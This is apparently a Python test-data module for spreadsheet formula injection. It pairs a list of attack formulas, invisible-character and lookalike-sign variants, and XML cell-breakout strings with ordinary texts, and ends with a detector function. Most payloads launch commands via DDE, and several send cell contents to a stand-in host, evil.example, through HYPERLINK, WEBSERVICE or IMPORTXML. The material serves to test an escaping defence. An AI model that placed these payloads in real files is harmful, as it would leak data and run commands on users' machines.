"""Texts that a spreadsheet could run, texts that only look like it, and how to tell, said independently."""

import unicodedata

PAYLOADS = [
    "=cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/?leak="&A1&A2,"Click me")',
    '=WEBSERVICE("http://evil.example/"&A1)',
    '=DDE("cmd";"/C calc";"__DdeLink_60_870516294")',
    "=MSEXCEL|'\\..\\..\\..\\Windows\\System32\\cmd.exe /c calc.exe'!''",
    '=IMPORTXML(CONCAT("http://evil.example/?",A1),"//a")',
    '=IMPORTDATA("http://evil.example/")',
    '=RTD("prog.id",,"topic")',
    '=CALL("urlmon","URLDownloadToFileA","JJCCJJ")',
    '=FILTERXML(WEBSERVICE("http://evil.example"),"//x")',
    "=INDIRECT(\"'[http://evil.example/x.xlsx]Sheet1'!A1\")",
    "=1+1\";=cmd|' /C calc'!A0;\"",
    "=\u03381+1",
    "=1+1",
    "=",
    "-5",
    "@",
]

BEFORE = {
    "a space": " ",
    "spaces": "   ",
    "a tab": "\t",
    "a carriage return": "\r",
    "a line feed": "\n",
    "CRLF": "\r\n",
    "a no-break space": "\u00a0",
    "a figure space": "\u2007",
    "an ideographic space": "\u3000",
    "a line separator": "\u2028",
    "a zero-width space": "\u200b",
    "a zero-width joiner": "\u200d",
    "a word joiner": "\u2060",
    "a soft hyphen": "\u00ad",
    "a byte order mark": "\ufeff",
    "a right-to-left mark": "\u200f",
    "a left-to-right override": "\u202d",
    "a right-to-left isolate": "\u2067",
    "a tag character": "\U000e0041",
    "NUL": "\x00",
    "backspace": "\x08",
    "escape": "\x1b",
    "delete": "\x7f",
    "next line": "\x85",
    "a lone surrogate": "\ud800",
    "a noncharacter": "\uffff",
    "several at once": "\u200b \ufeff\u00a0\x00\u200f",
}

FORMS = {
    "full-width": "＝＋－＠",
    "small": "﹦﹢﹣﹫",
    "superscript": "⁼⁺",
    "subscript": "₌₊",
    "doubled": "⩵⩶",
    "Hebrew plus": "﬩",
}

FORMULAS = [
    *PAYLOADS,
    *(before + payload for before in BEFORE.values() for payload in PAYLOADS[:4]),
    *(sign + "1+1" for signs in FORMS.values() for sign in signs),
    *(before + sign + "1+1" for before in BEFORE.values() for sign in FORMS["full-width"]),
    "\tBoard minute",
    "\rBoard minute",
    "\nBoard minute",
]

# What would come to a formula where it is not escaped: the end of a cell and another one behind it, for a
# writer that takes some texts for XML, and Excel's own way of writing "=".
MARKUP = [
    *(
        f'{before}</is></c><c r="B3"><f>1+1</f></c><c r="C3" t="inlineStr"><is>{after}'
        for before, after in (("<r></r>", "<r></r>"), ("<r><t>a</t></r>", "<r/></r>"), ("", ""))
    ),
    "_x003D_1+1",
]

ATTACKS = [*FORMULAS, *MARKUP]

ORDINARY = [
    "Board minute, 3 May",
    "–",
    "– a dash first",
    "— an em dash first",
    "Health & Justice <North>",
    'He said "yes", then left; twice',
    "a=b, c+d, e-f, g@h",
    "'already quoted'",
    "👩🏽‍⚕️ Peer team 🎉",
    "🏴󠁧󠁢󠁥󠁮󠁧󠁿 England",
    "مستشفى السلام",
    "\u200fבית חולים",
    "Ysbyty Gwynedd – tîm",
    "線上支援",
    "First line\nsecond line",
    "  indented",
    "#N/A",
    "#REF!",
    "TRUE",
    "007",
    "3 May",
    "1e5",
    "100%",
    "http://example.org/?a=b",
]


def could_run(text: str) -> bool:
    """Whether a spreadsheet could run it, spaces and unseen characters apart."""
    rest = text.translate(dict.fromkeys([*range(0xD800, 0xE000), 0xFFFE, 0xFFFF]))
    while rest and (rest[0].isspace() or unicodedata.category(rest[0]) in ("Cc", "Cf")):
        rest = rest[1:]
    return text[:1] in ("\t", "\r", "\n") or unicodedata.normalize("NFKC", rest[:1])[:1] in tuple("=+-@")
